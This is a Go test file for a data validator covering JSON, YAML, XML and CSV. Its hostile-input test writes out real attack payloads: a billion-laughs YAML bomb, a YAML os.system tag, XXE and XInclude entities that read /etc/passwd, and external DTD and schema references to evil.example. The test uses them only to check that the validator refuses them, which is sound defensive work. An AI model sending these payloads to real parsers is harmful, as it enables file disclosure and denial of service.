package structured

import (
	"context"
	"encoding/json"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"
)

type partialCase struct {
	Name string `json:"name"`
	Args struct {
		FormatName string  `json:"format_name"`
		Payload    string  `json:"payload"`
		SchemaJSON *string `json:"schema_json"`
		CSVDialect *string `json:"csv_dialect"`
	} `json:"args"`
	Valid   bool            `json:"valid"`
	Code    string          `json:"code"`
	Details json.RawMessage `json:"details"`
}

func run(t testing.TB, format, payload string, schema, dialect *string) Result {
	t.Helper()
	res, err := Validate(context.Background(), Request{Format: format, Payload: payload, Schema: schema, Dialect: dialect}, DefaultLimits)
	if err != nil {
		t.Fatalf("Validate: %v", err)
	}
	return res
}

// TestOraclePartial replays the oracle cases whose error messages and positions
// come from another parser (jsonschema, PyYAML, expat): valid, the first code
// and the details must agree.
func TestOraclePartial(t *testing.T) {
	raw, err := os.ReadFile("testdata/oracle_partial.json")
	if err != nil {
		t.Fatal(err)
	}
	var file struct{ Cases []partialCase }
	if err := json.Unmarshal(raw, &file); err != nil {
		t.Fatal(err)
	}
	if len(file.Cases) < 100 {
		t.Fatalf("only %d partial cases", len(file.Cases))
	}
	for _, c := range file.Cases {
		res := run(t, c.Args.FormatName, c.Args.Payload, c.Args.SchemaJSON, c.Args.CSVDialect)
		if res.Valid != c.Valid {
			t.Errorf("%s: valid = %v, want %v (%+v)", c.Name, res.Valid, c.Valid, res.Errors)
			continue
		}
		if len(res.Errors) == 0 || res.Errors[0].Code != c.Code {
			t.Errorf("%s: errors %+v, want first code %s", c.Name, res.Errors, c.Code)
		}
		for _, e := range res.Errors {
			if e.Code != c.Code {
				t.Errorf("%s: mixed codes %+v", c.Name, res.Errors)
			}
		}
		if c.Details != nil {
			got, _ := json.Marshal(res.Details)
			var want, have any
			json.Unmarshal(c.Details, &want)
			json.Unmarshal(got, &have)
			if g, w := mustJSON(have), mustJSON(want); g != w {
				t.Errorf("%s: details %s, want %s", c.Name, g, w)
			}
		}
	}
}

func mustJSON(v any) string { b, _ := json.Marshal(v); return string(b) }

func strp(s string) *string { return &s }

// TestHostile: every hostile input is answered with a typed finding, quickly.
func TestHostile(t *testing.T) {
	billion := "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n" +
		"b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n" +
		"d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n" +
		"f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n" +
		"h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"
	aliasOnly := "a: *undefined\n"
	row := "a,b\n"
	tests := []struct {
		name, format, payload string
		schema, dialect       *string
		code                  string
		line, col             int // 0: not checked
		path                  string
		bigPayload            bool // lift the payload limit to reach the parser itself
	}{
		{"billion laughs YAML", "yaml", billion, nil, nil, CodeYAMLAnchorRefused, 1, 4, "", false},
		{"YAML alias", "yaml", aliasOnly, nil, nil, CodeYAMLAliasRefused, 1, 4, "", false},
		{"YAML tag", "yaml", "a: !!python/object:os.system ls\n", nil, nil, CodeYAMLTagRefused, 1, 4, "", false},
		{"YAML local tag", "yaml", "!custom x\n", nil, nil, CodeYAMLTagRefused, 1, 1, "", false},
		{"YAML deep block nesting", "yaml", strings.Repeat("- ", 30000) + "x\n", nil, nil, CodeDepthLimit, 1, 0, "", false},
		{"YAML deep flow nesting", "yaml", strings.Repeat("[", 30000), nil, nil, CodeDepthLimit, 1, 0, "", false},
		{"XML external entity", "xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<foo>&xxe;</foo>", nil, nil, CodeXMLDTDRefused, 2, 1, "", false},
		{"XXE with a parameter entity", "xml", "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><d/>", nil, nil, CodeXMLDTDRefused, 1, 1, "", false},
		{"XML undeclared entity", "xml", "<a>x&xxe;</a>", nil, nil, CodeXMLEntityRefused, 1, 5, "/a", false},
		{"XInclude", "xml", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></a>", nil, nil, CodeXIncludeRefused, 1, 47, "/a/include", false},
		{"XML deep nesting", "xml", strings.Repeat("<a>", 20000) + strings.Repeat("</a>", 20000), nil, nil, CodeDepthLimit, 1, 193, "/" + strings.TrimSuffix(strings.Repeat("a/", 64), "/"), true},
		{"XML deep nesting within the payload limit", "xml", strings.Repeat("<a>", 8000) + strings.Repeat("</a>", 8000), nil, nil, CodeDepthLimit, 1, 193, "", false},
		{"JSON nested 100000 deep", "json", strings.Repeat("[", 100000) + strings.Repeat("]", 100000), nil, nil, CodeDepthLimit, 1, 65, "", true},
		{"JSON nested 32768 deep", "json", strings.Repeat("[", 32768) + strings.Repeat("]", 32768), nil, nil, CodeDepthLimit, 1, 65, "", false},
		{"YAML nested 100000 deep", "yaml", strings.Repeat("[", 100000), nil, nil, CodeDepthLimit, 1, 0, "", true},
		{"JSON object nesting", "json", strings.Repeat(`{"k":`, 65) + "1" + strings.Repeat("}", 65), nil, nil, CodeDepthLimit, 1, 321, "", false},
		{"JSON node limit", "json", "[" + strings.TrimSuffix(strings.Repeat("0,", 10000), ",") + "]", nil, nil, CodeNodeLimit, 1, 20000, "/9999", false},
		{"payload of 65537 bytes", "json", "\"" + strings.Repeat("x", 65535) + "\"", nil, nil, CodePayloadTooLarge, 0, 0, "", false},
		{"CSV with 1001 rows", "csv", strings.Repeat(row, 1001), nil, strp("comma"), CodeCSVRowLimit, 1001, 0, "/1000", false},
		{"CSV with a 9000-character field", "csv", "a," + strings.Repeat("x", 9000) + "\n", nil, strp("comma"), CodeCSVFieldTooLong, 1, 0, "/0/1", false},
		{"CSV with 101 columns", "csv", strings.Repeat("x;", 100) + "x\n", nil, strp("semicolon"), CodeCSVColumnLimit, 1, 0, "/0", false},
		{"schema with $ref", "json", `{"a": 1}`, strp(`{"properties": {"a": {"$ref": "http://evil.example/s.json"}}}`), nil, CodeSchemaRefRefused, 0, 0, "/properties/a/$ref", false},
		{"schema with $dynamicRef", "json", `1`, strp(`{"items": [{"$dynamicRef": "#x"}]}`), nil, CodeSchemaRefRefused, 0, 0, "/items/0/$dynamicRef", false},
		{"schema of another draft", "json", `1`, strp(`{"$schema": "http://json-schema.org/draft-07/schema#"}`), nil, CodeSchemaInvalid, 0, 0, "/$schema", false},
		{"schema with a huge exponent", "json", `1`, strp(`{"multipleOf": 1e-999999999}`), nil, CodeNumberRange, 0, 0, "/multipleOf", false},
		{"payload with a huge exponent", "json", `[1e999999999]`, strp(`{"type": "array"}`), nil, CodeNumberRange, 0, 0, "/0", false},
		{"schema too large", "json", `1`, strp(`{"description": "` + strings.Repeat("d", 33000) + `"}`), nil, CodeSchemaTooLarge, 0, 0, "", false},
		{"schema not JSON", "json", `1`, strp(`{"type": `), nil, CodeSchemaSyntax, 1, 10, "", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			start := time.Now()
			lim := DefaultLimits
			if tc.bigPayload {
				lim.MaxPayloadBytes = 1 << 20
			}
			res, err := Validate(context.Background(), Request{Format: tc.format, Payload: tc.payload, Schema: tc.schema, Dialect: tc.dialect}, lim)
			if err != nil {
				t.Fatal(err)
			}
			if res.Valid || len(res.Errors) == 0 {
				t.Fatalf("valid=%v errors=%+v, want finding %s", res.Valid, res.Errors, tc.code)
			}
			e := res.Errors[0]
			if e.Code != tc.code {
				t.Fatalf("code %s (%s), want %s", e.Code, e.Message, tc.code)
			}
			if tc.line != 0 && (e.Line == nil || *e.Line != tc.line) {
				t.Errorf("line %v, want %d", deref(e.Line), tc.line)
			}
			if tc.col != 0 && (e.Column == nil || *e.Column != tc.col) {
				t.Errorf("column %v, want %d", deref(e.Column), tc.col)
			}
			if tc.path != "" && (e.Path == nil || *e.Path != tc.path) {
				t.Errorf("path %v, want %s", e.Path, tc.path)
			}
			if strings.Contains(e.Message, "lol") || strings.Contains(e.Message, "passwd") || strings.Contains(e.Message, "evil") {
				t.Errorf("message echoes the input: %q", e.Message)
			}
			t.Logf("%s in %v", e.Code, time.Since(start))
		})
	}
}

func deref(p *int) any {
	if p == nil {
		return nil
	}
	return *p
}

func TestArgumentErrors(t *testing.T) {
	ctx := context.Background()
	if _, err := Validate(ctx, Request{Format: "csv", Payload: "a"}, DefaultLimits); err != ErrDialectRequired {
		t.Errorf("csv without dialect: %v", err)
	}
	if _, err := Validate(ctx, Request{Format: "yaml", Payload: "a", Schema: strp("{}")}, DefaultLimits); err != ErrSchemaNotJSON {
		t.Errorf("schema for yaml: %v", err)
	}
	ctx2, cancel := context.WithCancel(ctx)
	cancel()
	big := strings.Repeat("a,b\n", 900)
	if _, err := Validate(ctx2, Request{Format: "csv", Payload: big, Dialect: strp("comma")}, DefaultLimits); err != context.Canceled {
		t.Errorf("cancelled context: %v", err)
	}
}

// TestErrorCap: a schema failing everywhere lists at most 50 errors.
func TestErrorCap(t *testing.T) {
	payload := "[" + strings.TrimSuffix(strings.Repeat(`"x",`, 200), ",") + "]"
	res := run(t, "json", payload, strp(`{"items": {"type": "integer"}}`), nil)
	if res.Valid || len(res.Errors) != 50 {
		t.Fatalf("valid=%v, %d errors, want 50", res.Valid, len(res.Errors))
	}
	if got := *res.Errors[49].Path; got != "/49" {
		t.Errorf("50th error path %s, want /49", got)
	}
	for _, e := range res.Errors {
		if strings.Contains(e.Message, `"x"`) {
			t.Errorf("message quotes the payload: %s", e.Message)
		}
	}
}

// TestPythonJSONPositions pins a few of Python json's messages and positions
// (from `python3 -c 'import json; json.loads(...)'`).
func TestPythonJSONPositions(t *testing.T) {
	for _, tc := range []struct {
		in, msg   string
		line, col int
	}{
		{`[1,]`, "Expecting value", 1, 4},
		{`{"a":1,}`, "Expecting property name enclosed in double quotes", 1, 8},
		{`"\x"`, "Invalid \\escape", 1, 2},
		{`"abc`, "Unterminated string starting at", 1, 1},
		{"\"\\u12\"", "Invalid \\uXXXX escape", 1, 3},
		{"[\"a\x01\"]", "Invalid control character at", 1, 4},
		{"\n\n  x", "Expecting value", 3, 3},
		{"\"é\nx", "Invalid control character at", 1, 3},
		{"1 2", "Extra data", 1, 3},
	} {
		_, _, f := ParseJSON(tc.in, JSONOptions{})
		if f == nil || f.Message != "JSON syntax error: "+tc.msg || *f.Line != tc.line || *f.Column != tc.col {
			t.Errorf("%q: got %+v", tc.in, f)
		}
	}
}

// TestSchemaCacheConcurrent: many goroutines sharing cached schemas (and
// evicting them) get the same answers as a fresh compile.
func TestSchemaCacheConcurrent(t *testing.T) {
	done := make(chan string, 16)
	for g := 0; g < 16; g++ {
		go func(g int) {
			for i := 0; i < 200; i++ {
				// Distinct schemas (evicting the cache) and a shared one.
				limit := 100 + g*200 + i
				if i%5 == 0 {
					limit = 2
				}
				schema := `{"type": "array", "maxItems": ` + strconv.Itoa(limit) + `}`
				payload := "[" + strings.TrimSuffix(strings.Repeat("0,", 1+i%15), ",") + "]"
				res, err := Validate(context.Background(), Request{Format: "json", Payload: payload, Schema: &schema}, DefaultLimits)
				if err != nil || res.Valid != (1+i%15 <= limit) {
					done <- "wrong answer"
					return
				}
			}
			done <- ""
		}(g)
	}
	for g := 0; g < 16; g++ {
		if msg := <-done; msg != "" {
			t.Fatal(msg)
		}
	}
}

// TestOracleFull replays the golden oracle cases of the tool directly against
// Validate (the tools package replays them again through the full execution
// path); input-schema refusals are the tools package's business.
func TestOracleFull(t *testing.T) {
	raw, err := os.ReadFile("../../tools/testdata/structured_validate/oracle_full.json")
	if err != nil {
		t.Fatal(err)
	}
	var file struct {
		Cases []struct {
			Name string `json:"name"`
			Args struct {
				FormatName string  `json:"format_name"`
				Payload    string  `json:"payload"`
				SchemaJSON *string `json:"schema_json"`
				CSVDialect *string `json:"csv_dialect"`
			} `json:"args"`
			Facts map[string]any `json:"facts"`
		}
	}
	if err := json.Unmarshal(raw, &file); err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, c := range file.Cases {
		if c.Facts == nil {
			continue
		}
		n++
		res := run(t, c.Args.FormatName, c.Args.Payload, c.Args.SchemaJSON, c.Args.CSVDialect)
		b, _ := json.Marshal(res)
		var got map[string]any
		json.Unmarshal(b, &got)
		if g, w := mustJSON(got), mustJSON(c.Facts); g != w {
			t.Errorf("%s:\n got %s\nwant %s", c.Name, g, w)
		}
	}
	if n < 500 {
		t.Fatalf("only %d cases", n)
	}
}

// TestYAMLRegressions: inputs that once crashed or disagreed with PyYAML.
func TestYAMLRegressions(t *testing.T) {
	for _, tc := range []struct{ payload, code string }{
		{"a: 1\n---\n", CodeYAMLMultiDoc}, // empty second document: goccy's GetToken panicked
		{"...\n", CodeYAMLSyntax},
		{"a: 1\n...\nb: 2\n", CodeYAMLSyntax},
		{"a: 1\n...\n...\n", ""},
		{"---\n...\n", ""},
		{"a: !!s", CodeYAMLTagRefused}, // goccy drops a tag cut off by the end of input
		{"!x", CodeYAMLTagRefused},
		{"- !x", CodeYAMLTagRefused},
		{"a: *x", CodeYAMLAliasRefused},
		{"a: b\tc\n", CodeYAMLSyntax}, // PyYAML refuses tabs outside quoted/block scalars
		{"a: 'b\tc'\n", ""},
		{"}\n", CodeYAMLSyntax},
	} {
		res := run(t, "yaml", tc.payload, nil, nil)
		got := ""
		if len(res.Errors) > 0 {
			got = res.Errors[0].Code
		}
		if got != tc.code {
			t.Errorf("%q: %q (%+v), want %q", tc.payload, got, res.Errors, tc.code)
		}
	}
}
